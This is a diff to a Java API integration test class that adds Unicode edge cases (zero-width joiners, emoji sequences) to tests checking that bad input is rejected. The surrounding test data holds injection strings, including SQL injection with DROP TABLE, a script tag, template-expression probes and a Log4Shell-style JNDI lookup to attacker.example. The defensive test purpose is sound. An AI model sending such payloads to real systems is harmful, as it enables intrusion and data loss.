@@ -149,6 +149,8 @@ class BadInputTests extends ApiIntegrationTest {
         .expect(400, "customer.name"));
     add(cases, "unicode: zero-width space in the product name", intake(escaped("product/name", "电饭\\u200B煲"))
         .expect(400, "product.name"));
+    add(cases, "unicode: zero-width joiner between letters (not emoji)", intake(escaped("customer/name", "王\\u200D建国"))
+        .expect(400, "customer.name"));
     add(cases, "unicode: byte order mark inside the text", intake(escaped("description", "a\\uFEFFb")).expect(400, "description"));
     // --- intake: injection strings where no text is allowed -----------------------------------------------------------
     add(cases, "injection: SQL in the product code", intake(with("product/code", "RC' OR 1=1--")).expect(400, "product.code"));
@@ -279,7 +281,7 @@ class BadInputTests extends ApiIntegrationTest {
   static Stream<String> injectionText() {
     return Stream.of("' OR 1=1--", "Robert'); DROP TABLE complaint;--", "<script>alert(1)</script>",
         "${jndi:ldap://attacker.example/a}", "${7*7}", "#{7*7}", "#{runtimeService.deleteProcessInstance('x', 'y')}",
-        "{{7*7}} [[${7*7}]]", "😀👍🏽 𠮷野家 ✓");
+        "{{7*7}} [[${7*7}]]", "😀👍🏽 𠮷野家 ✓", "一家人 👩\u200D👩\u200D👧 程序员 👨🏽\u200D💻 🏳️\u200D🌈");
   }
 
   // --- building and sending cases -------------------------------------------------------------------------------------
